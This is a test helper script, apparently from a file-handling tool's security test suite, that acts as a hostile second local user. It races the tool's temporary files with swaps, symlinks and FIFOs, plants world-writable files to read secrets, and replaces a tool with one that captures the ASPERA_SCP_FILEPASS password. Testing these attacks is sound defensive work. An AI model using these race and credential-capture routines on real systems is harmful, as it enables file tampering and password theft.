// A second user on the same machine, for test/hostile-folders.test.ts: a separate process
// (started as user nobody when the tests run as root) that attacks a folder aenv works in.
// It prints "ready" once it runs, does one thing, then prints "done ..." (or "failed ...") on
// standard output and exits.
//   swap-temp DIR        wait for aenv's .aenv-*.partial in DIR, rename it away, put its own file under that name
//   swap-dir DIR TARGET  on "go" (a line on stdin): move DIR aside and put a symbolic link to TARGET in its place
//   fifo FILE            on "go": replace FILE with a named pipe
//   append FILE DIR      wait for aenv's .aenv-*.partial in DIR, then append to FILE
//   steal DIR NAME GO HOW [VICTIM]
//                        the review's attack on IBM's tool (issue 21): wait for aenv's .aenv-*.partial
//                        in DIR (a temporary file, or a private folder), rename it away, and plant
//                        under its name, with HOW = "file": a 0666 file of its own (in a 0777
//                        folder of its own holding NAME, if aenv's entry was a folder), keeping a
//                        descriptor open; HOW = "link": a symbolic link to VICTIM (to VICTIM's
//                        folder, whose file is NAME, if aenv's entry was a folder). It tries to list
//                        what it moved away, then creates GO (the stand-in tool writes only once
//                        GO exists), and on "end" reads every byte it can reach through what it
//                        planted: "done read=BYTES sha256=HEX listed=RESULT".
//   flood DIR N          write N small plaintext files named note-I.txt.aspera-env into DIR
//   replace-tool FILE NODE STOLEN
//                        put its own program at FILE (replacing the file, or its content), one that
//                        writes the ASPERA_SCP_FILEPASS it is given into STOLEN
// Waiting polls the folder every millisecond: the attacker sees what any user can see.

import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { appendFileSync, chmodSync, closeSync, fchmodSync, lstatSync, mkdirSync, openSync, readdirSync, readFileSync, readSync, renameSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';

const [mode, a, b] = process.argv.slice(2);
const TEMP = /^\.aenv-\d+-[0-9a-f]{16}\.partial$/;
const deadline = Date.now() + 60_000;

function say(line) {
  process.stdout.write(line + '\n');
}

async function waitTemp(dir) {
  while (Date.now() < deadline) {
    const t = readdirSync(dir).find((n) => TEMP.test(n));
    if (t) return t;
    await new Promise((r) => setTimeout(r, 1));
  }
  throw new Error(`no temporary file appeared in ${dir}`);
}

function waitGo() {
  return new Promise((resolve) => {
    process.stdin.once('data', () => resolve());
  });
}

/** Every byte readable through descriptor `fd` from its start. */
function readAll(fd) {
  const parts = [];
  const buf = Buffer.alloc(1 << 16);
  for (let pos = 0; ;) {
    const n = readSync(fd, buf, 0, buf.length, pos);
    if (n === 0) return Buffer.concat(parts);
    parts.push(Buffer.from(buf.subarray(0, n)));
    pos += n;
  }
}

/** Every byte of every file below `p` the attacker can read (links not followed), in name order. */
function readTree(p) {
  let st;
  try {
    st = lstatSync(p);
  } catch {
    return Buffer.alloc(0);
  }
  if (st.isDirectory()) {
    let names = [];
    try {
      names = readdirSync(p).sort();
    } catch {
      return Buffer.alloc(0);
    }
    return Buffer.concat(names.map((n) => readTree(path.join(p, n))));
  }
  if (!st.isFile()) return Buffer.alloc(0);
  try {
    return readFileSync(p);
  } catch {
    return Buffer.alloc(0);
  }
}

say('ready');

try {
  switch (mode) {
    case 'swap-temp': {
      const t = await waitTemp(a);
      renameSync(path.join(a, t), path.join(a, 'moved-away.partial'));
      writeFileSync(path.join(a, t), 'ATTACKER CONTENT\n');
      say(`done swapped ${t}`);
      break;
    }
    case 'swap-dir': {
      await waitGo();
      renameSync(a, `${a}.moved`);
      symlinkSync(b, a);
      say(`done ${a} -> ${b}`);
      break;
    }
    case 'fifo': {
      await waitGo();
      rmSync(a);
      const r = spawnSync('mkfifo', [a]);
      if (r.status !== 0) throw new Error(`mkfifo: ${r.stderr}`);
      say(`done fifo ${a}`);
      break;
    }
    case 'append': {
      await waitTemp(b);
      appendFileSync(a, 'APPENDED WHILE AENV READ THE FILE\n');
      say(`done appended to ${a}`);
      break;
    }
    case 'steal': {
      const [, dir, name, go, how, victim] = process.argv.slice(2);
      const t = await waitTemp(dir);
      const at = path.join(dir, t);
      const wasFolder = lstatSync(at).isDirectory();
      const away = path.join(dir, 'moved-away.partial');
      renameSync(at, away);
      const held = [];
      if (how === 'file') {
        let file = at;
        if (wasFolder) {
          mkdirSync(at);
          chmodSync(at, 0o777);
          file = path.join(at, name);
        }
        const fd = openSync(file, 'wx+', 0o666);
        fchmodSync(fd, 0o666);
        held.push(fd);
      } else {
        symlinkSync(wasFolder ? path.dirname(victim) : victim, at);
      }
      let listed;
      try {
        listed = `${readdirSync(away).length} names`;
      } catch (e) {
        listed = e.code;
      }
      writeFileSync(go, 'go\n');
      await waitGo(); // "end": aenv is done
      // what it holds, anything else that appeared in the folder it planted, and what it moved away
      const others = how === 'file' && wasFolder ? readdirSync(at).filter((n) => n !== name).map((n) => readTree(path.join(at, n))) : [];
      const got = Buffer.concat([...held.map(readAll), ...others, readTree(away)]);
      for (const fd of held) closeSync(fd);
      say(`done read=${got.length} sha256=${createHash('sha256').update(got).digest('hex')} listed=${listed} planted-in=${wasFolder ? 'folder' : 'file'}`);
      break;
    }
    case 'flood': {
      const n = Number(b);
      for (let i = 0; i < n; i++) writeFileSync(path.join(a, `note-${String(i).padStart(3, '0')}.txt.aspera-env`), `just a note, number ${i}\n`, { mode: 0o644 });
      say(`done flood ${n}`);
      break;
    }
    case 'replace-tool': {
      const [, file, node, stolen] = process.argv.slice(2);
      const program = `#!${node}\nrequire('node:fs').writeFileSync(${JSON.stringify(stolen)}, process.env.ASPERA_SCP_FILEPASS ?? 'no password');\n`;
      try {
        unlinkSync(file); // a folder the attacker may write to
        writeFileSync(file, program, { mode: 0o755 });
      } catch {
        writeFileSync(file, program); // else the file itself, if it may
      }
      say(`done replaced ${file}`);
      break;
    }
    default:
      throw new Error(`unknown mode ${mode}`);
  }
  process.exit(0);
} catch (e) {
  say(`failed ${e.message}`);
  process.exit(1);
}
